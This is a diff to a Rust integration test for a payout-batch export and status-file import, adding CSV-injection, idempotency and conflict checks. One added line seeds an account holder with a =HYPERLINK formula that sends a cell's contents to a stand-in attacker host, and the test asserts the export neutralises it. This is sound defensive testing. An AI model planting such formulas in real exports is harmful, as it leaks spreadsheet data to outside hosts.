@@ -240,7 +240,7 @@ fn validate_xsd(xml: &str, xsd: &str) {
     let dir = tempfile_dir();
     let file = dir.join("export.xml");
     std::fs::write(&file, xml).unwrap();
-    let schema = format!("{}/../../shared/data/iso20022/xsd/{xsd}", env!("CARGO_MANIFEST_DIR"));
+    let schema = format!("{}/fixtures/iso20022/xsd/{xsd}", env!("CARGO_MANIFEST_DIR"));
     match std::process::Command::new("xmllint")
         .args(["--noout", "--schema", &schema])
         .arg(&file)
@@ -334,6 +334,13 @@ async fn a_payout_batch_from_draft_to_bank_and_back() {
         .execute(app.db.pool())
         .await
         .unwrap();
+    // Shopper 0's account holder (as an old profile may hold it) would be a live formula in a spreadsheet.
+    sqlx::query("UPDATE shopper_profiles SET account_holder = $1 WHERE user_id = $2")
+        .bind("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Олена\")")
+        .bind(&ids[0])
+        .execute(app.db.pool())
+        .await
+        .unwrap();
 
     let today = fieldwork::assignment::kyiv_today();
     let (from, to) = ((today - chrono::Duration::days(30)).to_string(), today.to_string());
@@ -411,6 +418,12 @@ async fn a_payout_batch_from_draft_to_bank_and_back() {
     assert_eq!(rows.len(), 2);
     assert_eq!(rows.iter().map(|r| kopiykas(&r[8])).sum::<i64>(), 2 * 65_450);
     assert!(rows.iter().all(|r| r[10].contains(&from) && r[10].contains(&to)));
+    // Text cells that a spreadsheet would run as formulas are defused (OWASP CSV injection).
+    let holder = rows.iter().find(|r| &r[1] == ids[0].as_str()).unwrap()[2].to_string();
+    assert!(holder.starts_with("'=HYPERLINK("), "{holder}");
+    assert!(rows
+        .iter()
+        .all(|r| !r.iter().any(|cell| cell.starts_with(['=', '+', '@']))));
     let mut message_ids = Vec::new();
     for (format, xsd) in [
         ("pain.001.001.09", "pain.001.001.09.xsd"),
@@ -472,6 +485,7 @@ async fn a_payout_batch_from_draft_to_bank_and_back() {
         )
         .await;
     assert_eq!(body["data"]["importPayoutStatus"]["failed"], 1, "{body}");
+    // The same file again (a resend, a double click) returns the first result and settles nothing twice …
     let (_, body) = app
         .upload(
             Some(&maker),
@@ -479,10 +493,29 @@ async fn a_payout_batch_from_draft_to_bank_and_back() {
             json!({ "b": batch }),
             "file",
             "status.csv",
-            status_file.into_bytes(),
+            status_file.clone().into_bytes(),
+        )
+        .await;
+    assert_eq!(
+        body["data"]["importPayoutStatus"]["failed"], 1,
+        "the same file again: {body}"
+    );
+    assert_eq!(body["data"]["importPayoutStatus"]["paid"], 0, "{body}");
+    // … while another file that settles the same line again is a conflict naming the row.
+    let (_, body) = app
+        .upload(
+            Some(&maker),
+            import,
+            json!({ "b": batch }),
+            "file",
+            "status-2.csv",
+            status_file
+                .replace("Account closed", "Account closed (2nd notice)")
+                .into_bytes(),
         )
         .await;
     assert_eq!(error_code(&body), Some("CONFLICT"), "settled twice: {body}");
+    assert_eq!(error_field(&body), Some("file.row[2]"), "{body}");
     let (_, body) = app
         .upload(
             Some(&maker),
